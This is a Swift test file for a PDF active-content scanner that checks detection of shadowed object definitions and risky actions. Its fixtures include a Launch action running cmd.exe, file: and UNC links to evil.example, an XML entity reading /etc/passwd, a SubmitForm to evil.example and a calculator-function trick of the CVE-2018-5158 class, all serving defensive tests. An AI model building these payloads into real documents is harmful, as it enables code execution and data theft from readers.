import Testing

@testable import Inspection

/// Objects defined more than once: a reader that follows the xref may take any definition, so every check looks at
/// every definition of every object on a reference path. Also the Named and ResetForm actions a viewer runs without
/// side effects.
@Suite struct PDFShadowedObjectTests {
    static func findings(_ builder: FixturePDF) -> PDFActiveContent.Findings {
        PDFActiveContent.findings(in: builder.build())
    }

    static func isClean(_ findings: PDFActiveContent.Findings) -> Bool {
        findings.active.isEmpty && findings.unscannable.isEmpty
    }

    /// A document, the object `number` defined as `bad` and as `good` (in either order), and the finding expected.
    struct Shadow {
        var name: String
        var catalog = ""
        var page = ""
        var more: [String] = []
        var number: Int
        var bad: String
        var good: String
        var expected: String

        func build(badFirst: Bool) -> FixturePDF {
            var builder = FixturePDF.document(catalog: catalog, page: page, more: more)
            for body in badFirst ? [bad, good] : [good, bad] { builder.add(number, body) }
            return builder
        }
    }

    static let calculator = "{ 1 exch sub } cvx exec (x) run"

    static let shadows: [Shadow] = [
        Shadow(
            name: "action type shadowed (Launch / GoTo)",
            catalog: "/OpenAction 4 0 R",
            more: ["<< /S 5 0 R /D [3 0 R /Fit] /F (cmd.exe) >>"],
            number: 5,
            bad: "/Launch",
            good: "/GoTo",
            expected: "an OpenAction Launch action"
        ),
        Shadow(
            name: "link URI string shadowed",
            page: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI 5 0 R >> >>"],
            number: 5,
            bad: "(file://evil.example/share/a.exe)",
            good: "(https://ok.example/)",
            expected: "a URI action in an annotation to a non-web address (file:)"
        ),
        Shadow(
            name: "OpenAction shadowed by a destination array",
            catalog: "/OpenAction 4 0 R",
            number: 4,
            bad: "<< /S /URI /URI (https://evil.example/opened) >>",
            good: "[3 0 R /Fit]",
            expected: "an OpenAction URI action (navigation without a user gesture)"
        ),
        Shadow(
            name: "page /AA shadowed by an empty dictionary",
            page: "/AA 4 0 R",
            more: ["<< >>", "<< /S /URI /URI (https://evil.example/viewed) >>"],
            number: 4,
            bad: "<< /O 5 0 R >>",
            good: "<< >>",
            expected: "a URI action in additional actions (/AA) (navigation without a user gesture)"
        ),
        Shadow(
            name: "FunctionType shadowed (4 / 0)",
            page: "/Resources << /Shading << /Sh1 4 0 R >> >>",
            more: [
                "<< /ShadingType 1 /ColorSpace /DeviceGray /Function 5 0 R >>",
                FixturePDF.stream("<< /FunctionType 6 0 R /Domain [0 1 0 1] /Range [0 1] >>", calculator),
            ],
            number: 6,
            bad: "4",
            good: "0",
            expected: "a PostScript calculator function with non-calculator content (CVE-2018-5158 class)"
        ),
        Shadow(
            name: "a chain of references with a redefined object in the middle",
            catalog: "/OpenAction 4 0 R",
            more: ["6 0 R", "<< /S /URI /URI (https://evil.example/chain) >>"],
            number: 6,
            bad: "5 0 R",
            good: "<< /S /GoTo /D [3 0 R /Fit] >>",
            expected: "an OpenAction URI action (navigation without a user gesture)"
        ),
        Shadow(
            name: "Named action whose name is shadowed",
            page: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Named /N 5 0 R >> >>"],
            number: 5,
            bad: "/Print",
            good: "/NextPage",
            expected: "a Named action in an annotation other than page navigation"
        ),
        Shadow(
            name: "file specification path shadowed",
            more: ["<< /Type /Filespec /F 5 0 R >>"],
            number: 5,
            bad: "(\\\\\\\\evil.example\\\\share\\\\x)",
            good: "(local.pdf)",
            expected: "a file specification to a remote or UNC path"
        ),
        Shadow(
            name: "annotation subtype shadowed",
            page: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype 5 0 R /Rect [0 0 1 1] >>"],
            number: 5,
            bad: "/FileAttachment",
            good: "/Text",
            expected: "a file attachment annotation"
        ),
    ]

    @Test(arguments: 0..<shadows.count)
    func everyDefinitionCounts(_ index: Int) {
        let shadow = Self.shadows[index]
        for badFirst in [true, false] {
            for xref in [FixturePDF.XRef.table, .stream, .none] {
                var builder = shadow.build(badFirst: badFirst)
                builder.xref = xref
                let result = Self.findings(builder)
                #expect(result.active.contains(shadow.expected), "\(shadow.name), bad first: \(badFirst), \(xref): \(result)")
            }
        }
        // The same objects with the good definition only are clean (the finding comes from the shadowed one).
        var good = FixturePDF.document(catalog: shadow.catalog, page: shadow.page, more: shadow.more)
        good.add(shadow.number, shadow.good)
        #expect(Self.isClean(Self.findings(good)), "\(shadow.name), good only: \(Self.findings(good))")
    }

    /// An object in an object stream and again as a plain object later in the file (which is the latest).
    @Test func objectStreamAndPlainDefinitionBothCount() {
        let packed = Array("5 0 << /S /Launch /F (cmd.exe) >>".utf8)
        var builder = FixturePDF.document(
            catalog: "/OpenAction 5 0 R",
            more: [String(decoding: FixturePDF.stream("<< /Type /ObjStm /N 1 /First 4 >>", packed), as: UTF8.self)]
        )
        builder.add(5, "<< /S /GoTo /D [3 0 R /Fit] >>")
        #expect(Self.findings(builder).active.contains("an OpenAction Launch action"), "\(Self.findings(builder))")
        // And the other way round: the plain definition first, the object stream later.
        var reversed = FixturePDF.document(catalog: "/OpenAction 5 0 R")
        reversed.add(5, "<< /S /Launch /F (cmd.exe) >>")
        reversed.add(
            4,
            String(decoding: FixturePDF.stream("<< /Type /ObjStm /N 1 /First 4 >>", Array("5 0 << /S /GoTo /D [3 0 R /Fit] >>".utf8)), as: UTF8.self)
        )
        #expect(Self.findings(reversed).active.contains("an OpenAction Launch action"), "\(Self.findings(reversed))")
    }

    /// A stream whose /Filter is redefined is decoded one way by Airlock and maybe another by a reader.
    @Test func redefinedFiltersAreUnscannable() {
        var builder = FixturePDF.document(
            catalog: "/Metadata 4 0 R",
            more: [
                FixturePDF.stream(
                    "<< /Type /Metadata /Subtype /XML /Filter 5 0 R >>",
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"
                )
            ]
        )
        builder.add(5, "[]")
        builder.add(5, "/ASCIIHexDecode")
        #expect(
            Self.findings(builder).unscannable.contains(
                "an XML metadata stream cannot be read: its /Filter or /DecodeParms objects are defined more than once"
            ),
            "\(Self.findings(builder))"
        )
    }

    // MARK: Benign incremental updates

    /// Revisions that redefine the catalog, the page, a link, its action and a form field (as signing and form
    /// filling do), every definition benign: clean.
    @Test func benignIncrementalUpdatesStayClean() {
        var revision = FixturePDF.document(
            catalog: "/OpenAction 4 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >>",
            page: "/Annots [5 0 R 6 0 R] /AA << /O 7 0 R >>",
            more: [
                "[3 0 R /Fit]",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A 8 0 R >>",
                "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /P 3 0 R >>",
                "<< /S /GoTo /D [3 0 R /Fit] >>",
                "<< /S /URI /URI (https://example.com/v1) >>",
            ]
        ).build()
        #expect(Self.isClean(PDFActiveContent.findings(in: revision)))
        for version in 2...20 {
            revision = FixturePDF.update(
                revision,
                objects: [
                    (1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>"),
                    (3, "<< /Type /Page /Parent 2 0 R /Annots [5 0 R 6 0 R] /AA << /O 7 0 R >> /Rotate \(version % 4 * 90) >>"),
                    (4, version % 2 == 0 ? "<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>" : "[3 0 R /FitH 792]"),
                    (6, "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /P 3 0 R /V 9 0 R >>"),
                    (7, version % 2 == 0 ? "<< /S /Named /N /FirstPage >>" : "<< /S /GoTo /D [3 0 R /Fit] >>"),
                    (8, "<< /S /URI /URI 10 0 R >>"),
                    (9, "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Contents <00> /ByteRange [0 1 2 3] >>"),
                    (10, "(https://example.com/v\(version))"),
                ]
            )
        }
        let result = PDFActiveContent.findings(in: revision)
        #expect(Self.isClean(result), "\(result)")
    }

    // MARK: Hostile redefinitions

    @Test func tooManyDefinitionsAreUnscannable() {
        var builder = FixturePDF.document(catalog: "/OpenAction 4 0 R")
        for _ in 0...PDFActiveContent.definitionLimit { builder.add(4, "<< /S /GoTo /D [3 0 R /Fit] >>") }
        let result = Self.findings(builder)
        #expect(result.unscannable.contains { $0.hasPrefix("references reach past the limit") }, "\(result)")
    }

    @Test func longReferenceChainsAreUnscannable() {
        var builder = FixturePDF.document(catalog: "/OpenAction 4 0 R")
        for number in 4..<(4 + PDFActiveContent.chainLimit + 8) { builder.add(number, "\(number + 1) 0 R") }
        builder.add(4 + PDFActiveContent.chainLimit + 8, "<< /S /GoTo /D [3 0 R /Fit] >>")
        let result = Self.findings(builder)
        #expect(result.unscannable.contains { $0.hasPrefix("references reach past the limit") }, "\(result)")
    }

    /// Many dictionaries that refer to one object defined many times, and redefined objects that refer to each other
    /// in a cycle: each lookup is answered once, so this stays fast.
    @Test func redefinitionsStayLinear() {
        var builder = FixturePDF.document(catalog: "/OpenAction 5 0 R")
        for _ in 0..<200 { builder.add(4, "/Font") }
        for number in 5..<40_005 { builder.add(number, "<< /Type 4 0 R /Next \(number + 1) 0 R /S /GoTo /D [3 0 R /Fit] >>") }
        for _ in 0..<100 {
            builder.add(40_010, "40011 0 R")
            builder.add(40_011, "40010 0 R")
        }
        builder.add(3, "<< /Type /Page /Parent 2 0 R /AA << /O 40010 0 R >> >>")
        var result = PDFActiveContent.Findings()
        let elapsed = threadCPUTime { result = Self.findings(builder) }
        #expect(result.active.isEmpty, "\(result)")
        #expect(elapsed < .seconds(30))
    }

    // MARK: Named and ResetForm

    @Test(arguments: ["NextPage", "PrevPage", "FirstPage", "LastPage", "GoBack", "GoForward", "Find"])
    func navigationNamedActionsAreClean(_ name: String) {
        let link = FixturePDF.document(
            page: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Border [0 0 0] /A << /S /Named /N /\(name) >> >>"]
        )
        #expect(Self.isClean(Self.findings(link)), "\(Self.findings(link))")
        let automatic = FixturePDF.document(catalog: "/OpenAction << /S /Named /N /\(name) >>")
        #expect(Self.isClean(Self.findings(automatic)), "\(Self.findings(automatic))")
    }

    @Test(arguments: ["Print", "SaveAs", "Close", "Quit", "nextpage", ""])
    func otherNamedActionsAreActive(_ name: String) {
        let builder = FixturePDF.document(
            page: "/Annots [4 0 R]",
            more: ["<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Named /N /\(name) >> >>"]
        )
        #expect(Self.findings(builder).active == ["a Named action in an annotation other than page navigation"], "\(Self.findings(builder))")
        let missing = FixturePDF.document(catalog: "/OpenAction << /S /Named >>")
        #expect(Self.findings(missing).active == ["an OpenAction Named action other than page navigation"])
    }

    @Test func resetFormIsCleanButSubmitAndImportAreNot() {
        func button(_ action: String) -> FixturePDF {
            FixturePDF.document(
                catalog: "/AcroForm << /Fields [4 0 R] >>",
                page: "/Annots [4 0 R]",
                more: ["<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 1 1] /P 3 0 R /A \(action) >>"]
            )
        }
        #expect(Self.isClean(Self.findings(button("<< /S /ResetForm >>"))), "\(Self.findings(button("<< /S /ResetForm >>")))")
        #expect(Self.isClean(Self.findings(button("<< /S /ResetForm /Fields [4 0 R] /Flags 1 >>"))))
        let chained = button("<< /S /ResetForm /Next << /S /SubmitForm /F (https://evil.example/) >> >>")
        #expect(Self.findings(chained).active.contains("a SubmitForm action in a form field"), "\(Self.findings(chained))")
        #expect(Self.findings(button("<< /S /ImportData /F (data.fdf) >>")).active.contains("an ImportData action in a form field"))
        #expect(Self.findings(button("<< /S /ResetForm /JS (app.alert(1)) >>")).active.contains("a JavaScript action in a form field"))
    }
}
